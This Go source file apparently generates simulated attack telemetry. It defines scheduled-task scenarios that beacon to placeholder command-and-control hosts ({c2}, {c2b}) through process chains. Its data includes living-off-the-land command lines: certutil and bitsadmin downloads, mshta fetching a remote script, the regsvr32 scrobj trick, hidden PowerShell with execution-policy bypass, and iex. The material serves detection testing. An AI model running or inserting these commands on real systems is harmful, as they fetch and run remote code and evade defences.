package sample

// story is a way of calling home from a task.
type story struct {
	name     string
	every    Time
	task     program
	proxied  bool // calls a proxy inside
	overIPv6 bool // calls an IPv6 address
	reverse  bool // calls an address whose name the machine only knows by reverse lookup
}

var (
	home     = call{site: "c2"}
	fallback = call{site: "c2b"}
)

func command(arguments string) program { return tool("cmd.exe", " /c "+arguments).with(conhost) }

func ps(arguments string) program {
	return exe(powershell, `powershell.exe `+arguments).lives(4*second, 2*minute)
}

func script(host, file string) program {
	return tool(host, ` //B "`+file+`"`).lives(3500*millisecond, 20*second)
}

// dropped is a program that the attacker brought along under a name of his own.
func dropped(file, arguments, builtAs string) program {
	return exe(file, file+arguments).builtAs(builtAs).lives(4*second, 40*second)
}

// stories in the order of the depth of their deepest caller: the first calls
// home from the task's own process, the ninth eight generations below. Some
// branch, and some have several processes that call.
var stories = []story{
	{name: "beacon", every: 30 * minute, task: dropped(`C:\ProgramData\{word}\{word}svc.exe`, ` -k {word} -q`, "agent.exe").calls(call{site: "c2", silent: true})},

	{name: "batch", every: 12 * hour, task: tool("cmd.exe", ` /c C:\Users\Public\{word}.bat > nul 2>&1`).with(conhost,
		bare("curl.exe", ` -s -o "C:\Users\Public\{word}.dat" https://{c2}/u?id=1&v=2`).lives(300*millisecond, 3*second).calls(home),
		bare("certutil.exe", ` -urlcache -split -f http://{c2b}/{word}.txt C:\Users\Public\{word}.txt`).lives(5*second, 30*second).calls(fallback),
		bare("timeout.exe", ` /t 5`).sometimes(0.5))},

	{name: "script", every: 8 * hour, task: chain(
		script("wscript.exe", `{home}\AppData\Roaming\{word}\{word}.js`).as(asUser),
		script("cscript.exe", `{home}\AppData\Roaming\{word}\{word}2.js`),
		ps(`-w hidden -ep bypass -file {word}.ps1`).with(conhost).calls(call{site: "c2", times: 3}, call{site: "c2b", share: 0.5}))},

	{name: "markup", every: 20 * hour, overIPv6: true, task: chain(
		tool("mshta.exe", ` "vbscript:Close(Execute(""GetObject(""""script:https://{c2}/{word}"""")""))"`).lives(4*second, 20*second).calls(call{site: "c2b"}),
		command(`start /min {word}.cmd`),
		ps(`-nop -c "iex (gc C:\ProgramData\{word}.txt)"`),
		bare("rundll32.exe", ` C:\ProgramData\{word}.dll,Start`).lives(4*second, 30*second).calls(call{site: "c2", times: 2}))},

	{name: "library", every: 6 * hour, reverse: true, task: chain(
		tool("regsvr32.exe", ` /s /n /u /i:"C:\ProgramData\{word}.sct" scrobj.dll`),
		bare("rundll32.exe", ` javascript:"\..\mshtml,RunHTMLApplication ";alert('{word}')`),
		command(`C:\ProgramData\{word}\run.cmd "a b"`),
		ps(`-enc SQBFAFgA`).calls(fallback),
		dropped(`C:\ProgramData\{word}\chrome_helper.exe`, ` --proxy-off -T {word}.7z https://{c2}/`, "curl.exe").calls(call{site: "c2", times: 2}))},

	{name: "installer", every: 24 * hour, task: chain(
		tool("msiexec.exe", ` /q /i C:\ProgramData\{word}.msi`),
		script("wscript.exe", `C:\ProgramData\{word}.vbs`),
		command(`"powershell -c ""& {word}"" "`),
		ps(`-c "& {word}"`),
		command(`bitsadmin /transfer {word} https://{c2}/b C:\ProgramData\{word}.bin`),
		bare("bitsadmin.exe", ` /transfer {word} https://{c2}/b C:\ProgramData\{word}.bin`).lives(5*second, minute).calls(home))},

	{name: "relay", every: 16 * hour, task: chain(
		command(`C:\ProgramData\{word}\1.cmd`), command(`2.cmd`), command(`3.cmd`),
		script("cscript.exe", `{word}.vbs`).calls(call{site: "c2b"}),
		ps(`-file {word}.ps1`),
		bare("regsvr32.exe", ` /s {word}.ocx`),
		dropped(`C:\Windows\Temp\{word}.tmp`, ` /stage 7`, "loader.exe").calls(call{site: "c2", times: 4}))},

	{name: "nested", every: 24 * hour, task: chain(
		script("wscript.exe", `{home}\AppData\Local\{word}\start.js`).as(asUser),
		command(`cmd /c cmd /c {word}`), bare("cmd.exe", ` /c cmd /c {word}`), bare("cmd.exe", ` /c {word}`),
		ps(`-c {word}`), ps(`-c {word} -child`).calls(fallback),
		dropped(`{home}\AppData\Local\{word}\notepad.exe`, "", "python.exe"),
		dropped(`{home}\AppData\Local\{word}\updater.exe`, ` --once`, "python.exe").calls(home))},

	{name: "deep", every: 12 * hour, task: chain(
		tool("forfiles.exe", ` /p C:\ProgramData /m {word}.log /c "cmd /c C:\ProgramData\{word}.cmd"`),
		command(`C:\ProgramData\{word}.cmd`), script("wscript.exe", `{word}.vbs`), bare("mshta.exe", ` C:\ProgramData\{word}.hta`),
		ps(`-file {word}.ps1`), command(`{word}64.exe`),
		dropped(`C:\ProgramData\{word}64.exe`, ` -d`, "go.exe").calls(call{site: "c2b"}),
		bare("rundll32.exe", ` {word}64.dll,#1`),
		dropped(`C:\ProgramData\{word}64.exe`, ` -d -child`, "go.exe").calls(call{site: "c2", times: 2}))},

	{name: "proxied", every: 4 * hour, proxied: true, task: chain(
		command(`C:\ProgramData\{word}\sync.cmd`),
		ps(`-c "iwr http://{word}.test/t -Proxy http://{c2}:8080"`).calls(call{site: "c2", times: 2}))},
}
